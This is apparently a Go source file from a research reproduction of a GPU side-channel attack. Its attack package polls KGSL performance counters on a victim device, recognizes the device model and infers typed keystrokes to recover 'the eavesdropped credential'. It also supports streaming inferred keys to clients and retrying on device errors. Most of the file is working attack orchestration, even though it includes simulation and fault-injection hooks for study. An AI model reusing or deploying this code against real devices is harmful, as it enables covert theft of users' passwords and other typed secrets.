package attack

import (
	"context"
	"errors"
	"fmt"
	"math"

	"gpuleak/internal/fault"
	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// ErrModelNotTrained reports an attack attempted without a classifier for
// the victim configuration — no models preloaded, or a registry lookup
// that was told not to train on miss. Match with errors.Is.
var ErrModelNotTrained = errors.New("attack: model not trained for configuration")

// Result is the outcome of one eavesdropping run.
type Result struct {
	// Model identifies the classifier chosen by device recognition.
	Model ModelKey
	// Keys are the inferred key presses (corrections already applied).
	Keys []InferredKey
	// Text is the eavesdropped credential.
	Text string
	// Stats reports the engine's internal bookkeeping.
	Stats EngineStats
	// EstimatedLength is the input length recovered from echo redraws
	// (§5.3/§9.1); -1 when no echo was observed.
	EstimatedLength int
	// Degraded reports that recovery machinery fired during the run —
	// sampler retries, re-reservations, dropped ticks, or engine gap
	// segmentation — so the inference ran on an incomplete trace. A
	// fault-free run always reports false.
	Degraded bool
	// Recovery details the sampler's recovery work (all zero when the run
	// was fault-free).
	Recovery CollectStats
}

// Attack is the end-to-end attacking application: preloaded per-device
// classification models, a polling interval, and the online engine
// options. It mirrors the victim-side monitoring service of Figure 4.
type Attack struct {
	// Models are the preloaded classifiers, one per device configuration.
	Models []*Model
	// Interval is the counter polling period (default 8 ms).
	Interval sim.Time
	// Options holds the online engine's ablation settings.
	Options OnlineOptions
	// Retry turns on the sampler's recovery from transient device errors;
	// see Sampler.Retry. Off, any device error aborts the run, the
	// behavior every fault-free experiment relies on. Pipeline derives it
	// from the stack it builds.
	Retry bool
	// Errors is the transient-error taxonomy of the side channel the probe
	// was opened on, governing retry classification and re-reservation.
	// The zero value means the KGSL taxonomy; Pipeline sets each leg's
	// from its channel.
	Errors fault.Taxonomy
	// Classify, when non-nil, overrides per-delta classification for every
	// engine this attack builds (EavesdropContext, EavesdropTrace,
	// Stack.Run and MonitorAndEavesdrop's full-rate phase). It must agree
	// with m.ClassifyDenoised(v) for every input — the hook exists so a
	// serving tier can coalesce classification work across requests
	// (micro-batching), never to change verdicts. at is the sim-time of
	// the delta being classified.
	Classify func(m *Model, at sim.Time, v trace.Vec) Verdict
	// Obs, when non-nil, receives sampler spans, per-delta verdict events
	// and monitor events from every run driven through this Attack.
	Obs *obs.Tracer
}

// New builds an attack from preloaded models.
func New(models ...*Model) *Attack {
	return &Attack{Models: models, Interval: DefaultInterval}
}

// Recognize picks the classification model whose launch-frame fingerprint
// best matches the first burst of activity in the delta stream (§3.2:
// readings are first used to recognize the current device model and
// configuration): the deltas inside the launch window after the first.
func (a *Attack) Recognize(ds []trace.Delta, interval sim.Time) (*Model, error) {
	if len(a.Models) == 0 {
		return nil, fmt.Errorf("no models preloaded: %w", ErrModelNotTrained)
	}
	if len(a.Models) == 1 {
		return a.Models[0], nil
	}
	if len(ds) == 0 {
		return nil, fmt.Errorf("attack: no activity to recognize a device from")
	}
	window := windowsFor(interval).launch
	first := ds[0].At
	launch := ds[0].V
	for _, d := range ds[1:] {
		if d.At-first > window {
			break
		}
		launch = launch.Add(d.V)
	}
	var best *Model
	bestDist := math.Inf(1)
	for _, m := range a.Models {
		// Normalize by the model's own launch magnitude so big-screen
		// devices do not dominate.
		norm := m.Launch.Norm(m.Weights)
		if norm <= 0 {
			norm = 1
		}
		d := launch.Dist(m.Launch, m.Weights) / norm
		if d < bestDist {
			bestDist = d
			best = m
		}
	}
	return best, nil
}

// engineFor builds the online engine for one recognized model, wiring
// the attack's observability and classification hooks.
func (a *Attack) engineFor(m *Model, interval sim.Time) *Engine {
	eng := NewEngine(m, interval, a.Options)
	eng.SetObs(a.Obs)
	if a.Classify != nil {
		eng.SetClassify(func(at sim.Time, v trace.Vec) Verdict { return a.Classify(m, at, v) })
	}
	return eng
}

// resultFrom assembles the Result of a finished engine run; shared by the
// batch and streaming paths so both produce identical results.
func (a *Attack) resultFrom(m *Model, eng *Engine) *Result {
	RecordEngineStats(a.Obs.Metrics(), eng.Stats())
	stats := eng.Stats()
	return &Result{
		Model:           m.Key,
		Keys:            eng.Keys(),
		Text:            eng.Text(),
		Stats:           stats,
		EstimatedLength: eng.EstimatedLength(),
		Degraded:        stats.Gaps > 0 || stats.Resyncs > 0,
	}
}

// EavesdropTrace runs device recognition and the online engine over a
// collected trace.
func (a *Attack) EavesdropTrace(tr *trace.Trace) (*Result, error) {
	ds := tr.Deltas()
	m, err := a.Recognize(ds, tr.Interval)
	if err != nil {
		return nil, err
	}
	eng := a.engineFor(m, tr.Interval)
	eng.ProcessAll(ds)
	return a.resultFrom(m, eng), nil
}

// EavesdropContext opens the sampling loop on a victim's probe over
// [start, end] and infers the typed credential. This is the full online
// phase: poll counters, recognize the device, classify deltas. f is any
// Probe — a raw *kgsl.File, a *fault.File when the run should face an
// injected fault schedule, or a defense-wrapped probe. Pipeline
// assembles such stacks for any channel, with the retry switch and
// taxonomy they need, and its Stack.Run taps the same loop for
// streaming. The loop checks ctx at every polling tick; a completed
// run's result does not depend on it — the context is a control
// channel, never an input to the inference.
func (a *Attack) EavesdropContext(ctx context.Context, f Probe, start, end sim.Time) (*Result, error) {
	res, _, stats, err := a.run(ctx, f, start, end, nil, false)
	if err != nil {
		return nil, err
	}
	res.addRecovery(stats)
	return res, nil
}

// StreamEvent is one incremental online-phase notification: the §5
// engine committed a new key press, or withdrew keys it had previously
// reported (§5.2 app-switch rollback, §5.3 correction detection). The
// serving layer's streaming sessions forward these to clients the moment
// Algorithm 1 emits them.
type StreamEvent struct {
	// At is the sim-time of the delta that triggered the event.
	At sim.Time
	// Kind is "key" for a newly inferred press, "retract" when the engine
	// withdrew previously emitted keys.
	Kind string
	// Key is the inferred press (valid only for Kind "key").
	Key InferredKey
	// Keys is the number of keys the engine stands behind after this
	// event; after a retraction it is smaller than the event count so far.
	Keys int
}

// addRecovery folds a run's sampler recovery work into its result.
func (r *Result) addRecovery(s CollectStats) {
	r.Recovery = s
	r.Degraded = r.Degraded || s.Degraded()
}

// run is the one online loop: reserve f, poll [start, end], and run
// Algorithm 1 on every change point as the sampler produces it, with emit
// tapping every commit and retraction. It returns the engine's result —
// Recovery unset and Degraded from gap segmentation only, exactly
// EavesdropTrace's shape — plus the sampler's recovery stats (set even
// when sampling fails) and, when keep is set, the trace with every delta
// (Stack.Run's legs; nil when sampling fails). Without keep no delta
// outlives its step. Errors take EavesdropTrace-over-CollectContext's
// precedence: sampling, then ctx ending after the last tick, then
// recognition, then emit.
func (a *Attack) run(ctx context.Context, f Probe, start, end sim.Time, emit func(StreamEvent) error, keep bool) (*Result, *trace.Trace, CollectStats, error) {
	s, err := NewSamplerTaxonomy(f, a.Interval, a.Retry, a.Errors)
	if err != nil {
		return nil, nil, CollectStats{}, err
	}
	s.Obs = a.Obs
	o := newOnline(a, s.Interval, nil, emit)
	var head trace.Trace
	tr := &head
	yield := o.push
	if keep {
		tr = s.newTrace(start, end)
		yield = func(d trace.Delta) bool {
			tr.Append(d)
			return o.push(d)
		}
	}
	if err := s.poll(ctx, start, end, tr, yield); err != nil {
		return nil, nil, s.Stats, err
	}
	if err := ctx.Err(); err != nil {
		return nil, nil, s.Stats, err
	}
	if !keep {
		tr = nil
	}
	res, err := o.finish()
	return res, tr, s.Stats, err
}

// online runs Algorithm 1 on a live delta stream: device recognition
// once the launch window has closed, then the engine on every delta,
// with emit tapping its commits and retractions.
type online struct {
	a        *Attack
	interval sim.Time
	window   sim.Time // Recognize's launch window
	emit     func(StreamEvent) error
	model    *Model
	eng      *Engine
	// launch buffers the deltas until the model is chosen; with one
	// model the engine starts at the first delta and it stays empty.
	launch  []trace.Delta
	emitted int
	// err is emit's failure: it stops the engine, not the sampler.
	err error
}

// newOnline prepares a's loop for a poll at interval. m is the model
// when it is already known; nil recognizes it from the launch window, or
// takes a's only one at once.
func newOnline(a *Attack, interval sim.Time, m *Model, emit func(StreamEvent) error) online {
	o := online{a: a, interval: interval, window: windowsFor(interval).launch, emit: emit}
	if m == nil && len(a.Models) == 1 {
		m = a.Models[0]
	}
	if m != nil {
		o.start(m)
	}
	return o
}

// start builds the engine for the chosen model.
func (o *online) start(m *Model) {
	o.model = m
	o.eng = o.a.engineFor(m, o.interval)
}

// push consumes the next delta. With several models it is buffered
// until a delta lands past the launch window; recognition then runs on
// the buffer, which the engine replays before going live. With no model
// nothing runs: finish reports it. It always asks the sampler to keep
// polling: an emit failure stops the engine, not the sampler, so a later
// sampling failure still wins.
func (o *online) push(d trace.Delta) bool {
	switch {
	case o.err != nil:
	case o.eng != nil:
		o.step(d)
	case len(o.a.Models) > 1:
		o.launch = append(o.launch, d)
		if d.At-o.launch[0].At > o.window {
			_ = o.recognize() // two or more models and a delta: Recognize cannot fail
		}
	}
	return true
}

// recognize chooses the model from the buffered deltas and replays them.
func (o *online) recognize() error {
	m, err := o.a.Recognize(o.launch, o.interval)
	if err != nil {
		return err
	}
	o.start(m)
	for _, d := range o.launch {
		if o.err != nil {
			break
		}
		o.step(d)
	}
	o.launch = nil
	return nil
}

// step runs the engine on one delta and emits what it changed.
func (o *online) step(d trace.Delta) {
	o.eng.Process(d)
	if o.emit == nil {
		return
	}
	keys := o.eng.Keys()
	if len(keys) < o.emitted {
		o.emitted = len(keys)
		if err := o.emit(StreamEvent{At: d.At, Kind: "retract", Keys: len(keys)}); err != nil {
			o.err = err
			return
		}
	}
	for ; o.emitted < len(keys); o.emitted++ {
		if err := o.emit(StreamEvent{At: d.At, Kind: "key", Key: keys[o.emitted], Keys: o.emitted + 1}); err != nil {
			o.err = err
			return
		}
	}
}

// finish ends a completed sampling pass: recognition, if the launch
// window never closed, then the result or emit's failure.
func (o *online) finish() (*Result, error) {
	if o.eng == nil {
		if err := o.recognize(); err != nil {
			return nil, err
		}
	}
	if o.err != nil {
		return nil, o.err
	}
	return o.a.resultFrom(o.model, o.eng), nil
}
